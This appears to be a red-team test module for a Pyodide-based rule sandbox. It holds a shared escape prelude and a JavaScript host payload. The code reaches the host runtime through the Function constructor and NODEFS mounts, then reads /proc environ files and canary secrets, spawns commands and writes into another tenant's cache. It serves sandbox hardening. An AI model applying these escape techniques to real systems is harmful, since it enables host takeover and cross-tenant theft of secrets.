/**
 * The code every escape of the suite shares: a Python prelude (helpers that
 * note what each step reached and end the run with a rule error carrying it
 * all) and the JavaScript payload run by any escape that reaches JavaScript's
 * `Function`. Both only know where to look (paths, a variable name, a port),
 * never a secret: what comes back in an outcome was read, not known.
 */

/** Everything the prelude's RT dict holds. */
export interface EscapeConfig {
  tenant: string;
  otherTenant: string;
  otherKey: string;
  canaryFiles: { outside: string; inRepo: string };
  envName: string;
  /** Markers are `<markerPrefix>-<how>`; the folder must stay empty. */
  markerPrefix: string;
  caseDir: string;
  /** The temp dir holding canary.txt and cases/ (what a NODEFS mount would expose). */
  hostDir: string;
  port: number;
  /** How long rt_stall spins: longer than any limit plus a process restart. */
  stallSeconds: number;
  timeLimitMs: number;
  memoryLimitMb: number;
  /** How much rt_hog holds: well past the memory limit. */
  hogMb: number;
}

/**
 * Body of a JavaScript function of one argument, `cfg` (JSON text of the
 * config): what code that reached the host runtime does with it. Each step is
 * noted, failures included, and the notes returned as one string.
 */
export const JS_PAYLOAD = String.raw`
const c = JSON.parse(cfg);
const notes = [];
const note = (label, fn) => {
  try { notes.push(label + '=' + String(fn()).slice(0, 300)); }
  catch (e) { notes.push(label + '!' + String((e && (e.code || e.message)) || e).slice(0, 120)); }
};
const mod = (name) => process.getBuiltinModule(name);
const sha = (data) => mod('node:crypto').createHash('sha256').update(data).digest('hex').slice(0, 24);
const peek = (file) => {
  const data = mod('node:fs').readFileSync(file);
  const found = data.toString('latin1').split('\0').filter((item) => item.startsWith(c.envName + '='));
  return found.length ? found.join(',') : 'sha:' + sha(data);
};
note('js', () => 'pid ' + process.pid + ' ppid ' + process.ppid + ' uid ' + (process.getuid ? process.getuid() : '?') + ' ' + process.version);
for (const [label, file] of Object.entries(c.canaryFiles)) note('canary-' + label, () => mod('node:fs').readFileSync(file, 'utf8'));
note('write-marker', () => { mod('node:fs').writeFileSync(c.markerPrefix + '-js', 'written by a detection'); return 'written'; });
note('spawn-id', () => mod('node:child_process').execFileSync('id', [], { timeout: 5000 }).toString().trim());
note('spawn-touch', () => { mod('node:child_process').execFileSync('touch', [c.markerPrefix + '-spawned'], { timeout: 5000 }); return 'ran'; });
note('env', () => process.env[c.envName]);
for (const file of ['/proc/self/environ', '/proc/' + process.ppid + '/environ', '/proc/1/environ', '/proc/1/cmdline']) note(file, () => peek(file));
note('proc-scan', () => {
  const fs = mod('node:fs');
  const hits = [];
  for (const pid of fs.readdirSync('/proc')) {
    if (!/^\d+$/.test(pid)) continue;
    try { const v = peek('/proc/' + pid + '/environ'); if (!v.startsWith('sha:')) hits.push(pid + ':' + v); } catch (e) {}
  }
  return hits.join(',') || 'none';
});
note('connect', () => { const s = mod('node:net').connect(c.port, '127.0.0.1'); s.on('error', () => undefined); s.end('escaped'); return 'connecting (async)'; });
note('connect-sync', () => {
  // A host blocked in a synchronous read never runs its event loop: connect from a child that waits for it.
  const script = "let ok = false; const s = require('net').connect(" + c.port + ", '127.0.0.1', () => { ok = true; s.end('escaped'); }); s.on('close', () => process.exit(ok ? 0 : 1)); s.on('error', () => undefined); setTimeout(() => process.exit(ok ? 0 : 2), 2000);";
  mod('node:child_process').execFileSync(process.execPath, ['-e', script], { timeout: 5000 });
  return 'connected';
});
note('kv-bridge', () => {
  // Worker-thread engines: the thread's own end of the cache bridge, with another tenant's id.
  const data = mod('node:worker_threads').workerData;
  if (!data || !data.kvPort || !data.kvBuffer) return 'none';
  const header = new Int32Array(data.kvBuffer, 0, 2);
  const body = new Uint8Array(data.kvBuffer, 8);
  const ask = (request) => {
    const seq = 0x40000000 + Math.floor(Math.random() * 0x100000);
    data.kvPort.postMessage({ seq, tenantId: c.otherTenant, requestJson: JSON.stringify(request) });
    const deadline = Date.now() + 3000;
    while (Atomics.load(header, 0) !== seq && Date.now() < deadline) Atomics.wait(header, 0, Atomics.load(header, 0), 50);
    return Atomics.load(header, 0) === seq ? Buffer.from(body.subarray(0, Atomics.load(header, 1))).toString('utf8') : 'no answer';
  };
  return 'read ' + ask({ op: 'get_dictionary', key: c.otherKey }) + ' write ' + ask({ op: 'put_dictionary', key: c.otherKey, value: { v: 'poisoned by ' + c.tenant } });
});
return notes.join(' ; ');
`;

/** The same payload as one JavaScript expression, for routes that evaluate a script (emscripten_run_script). */
export function jsPayloadExpression(config: EscapeConfig): string {
  return `(function (cfg) {${JS_PAYLOAD}})(${JSON.stringify(jsConfig(config))})`;
}

function jsConfig(config: EscapeConfig): string {
  const { tenant, otherTenant, otherKey, canaryFiles, envName, markerPrefix, port } = config;
  return JSON.stringify({ tenant, otherTenant, otherKey, canaryFiles, envName, markerPrefix, port });
}

const PRELUDE = String.raw`
# ---- red-team prelude (test/security): helpers shared by every escape ----
import base64 as rt_base64
import gc as rt_gc
import hashlib as rt_hashlib
import json as rt_json
import time as rt_time

RT = rt_json.loads(rt_base64.b64decode("@CONFIG@").decode("utf-8"))
rt_notes = []


def rt_note(label, value):
    # Bounded so that the whole report stays within the harness's 4 KB message.
    rt_notes.append(f"{label}={str(value)[:1500 if label == 'host-js' else 300]}")


def rt_try(fn):
    """The value of one step, or what stopped it. Only Exception: the time
    limit (a BaseException) must still stop the run."""
    try:
        return fn()
    except Exception as exc:
        return f"!{type(exc).__name__}: {exc}"


def rt_attempt(label, fn):
    value = rt_try(fn)
    rt_note(label, value)
    return None if isinstance(value, str) and value.startswith("!") else value


def rt_report():
    """Ends the run with a rule error whose message is everything the escape got."""
    raise Exception("ESCAPE-REPORT " + " ; ".join(rt_notes))


def rt_digest(data):
    return rt_hashlib.sha256(data).hexdigest()[:24]


def rt_peek(path):
    """What an escape takes from a file: a canary file whole, an environment
    by the canary variable, anything else as a digest."""
    with open(path, "rb") as handle:
        data = handle.read()
    if path in RT["canaryFiles"].values() or path.endswith("canary.txt"):
        return data.decode("utf-8", "replace")
    prefix = (RT["envName"] + "=").encode()
    found = [item.decode("utf-8", "replace") for item in data.split(b"\0") if item.startswith(prefix)]
    return ",".join(found) if found else "sha:" + rt_digest(data)


def rt_js_finder():
    return [o for o in rt_gc.get_objects() if type(o).__name__ == "JsFinder"][0]


def rt_pyodide_js():
    return rt_js_finder().jsproxies["pyodide_js"]


def rt_modules():
    """Every module object still alive, in sys.modules or not."""
    import types
    return {o.__name__: o for o in rt_gc.get_objects() if isinstance(o, types.ModuleType)}


def rt_host_js(js_object):
    """From any JavaScript object: its Function constructor, then the host payload."""
    Function = js_object.constructor.constructor
    return str(Function("cfg", RT["jsPayload"])(RT["jsConfig"]))


def rt_escape_with(js_object):
    """Everything a JavaScript foothold gives: the payload through Function."""
    rt_attempt("host-js", lambda: rt_host_js(js_object))


def rt_nodefs(pyodide_js):
    """No eval needed: mount host folders through Pyodide's NODEFS and use them from Python."""
    mount = "/mnt/rt-host"
    rt_attempt("mount-hostdir", lambda: pyodide_js.mountNodeFS(mount, RT["hostDir"]))
    rt_attempt("nodefs-canary", lambda: rt_peek(mount + "/canary.txt"))
    def write_marker():
        with open(mount + RT["caseDir"][len(RT["hostDir"]):] + "/marker-nodefs", "w") as handle:
            handle.write("written through NODEFS")
        return "written"
    rt_attempt("nodefs-marker", write_marker)
    repo_dir, _, repo_file = RT["canaryFiles"]["inRepo"].rpartition("/")
    rt_attempt("mount-repo", lambda: pyodide_js.mountNodeFS("/mnt/rt-repo", repo_dir))
    rt_attempt("nodefs-repo-canary", lambda: rt_peek("/mnt/rt-repo/" + repo_file))
    rt_attempt("mount-proc", lambda: pyodide_js.mountNodeFS("/mnt/rt-proc", "/proc"))
    ppid = rt_try(lambda: open("/mnt/rt-proc/self/stat").read().rsplit(")", 1)[1].split()[1])
    for name in ("self/environ", f"{ppid}/environ", "1/environ", "1/cmdline"):
        rt_attempt("nodefs-proc/" + name, lambda: rt_peek("/mnt/rt-proc/" + name))


def rt_stall(body=None):
    """Spins longer than any limit and a restart: surviving it is the evidence."""
    seconds = RT["stallSeconds"]
    deadline = rt_time.monotonic() + seconds
    while rt_time.monotonic() < deadline:
        if body is not None:
            body()
    raise Exception(f"STALL-SURVIVED: ran {seconds} s past a time limit of {RT['timeLimitMs']} ms")


def rt_hog():
    """Holds memory well past the limit: surviving it is the evidence."""
    hold = []
    while len(hold) * 8 < RT["hogMb"]:
        hold.append(bytearray(8 * 1024 * 1024))
    raise Exception(f"MEMORY-SURVIVED: held {RT['hogMb']} MB past a limit of {RT['memoryLimitMb']} MB")

# ---- end of prelude; the escape follows ----
`;

/** The Python module of one escape: the prelude with its config, then the escape's own code. */
export function escapeSource(config: EscapeConfig, escape: string): string {
  const rt = { ...config, jsPayload: JS_PAYLOAD, jsConfig: jsConfig(config), jsExpression: jsPayloadExpression(config) };
  const encoded = Buffer.from(JSON.stringify(rt), 'utf8').toString('base64');
  return `${PRELUDE.replace('@CONFIG@', encoded)}\n${escape.trim()}\n`;
}
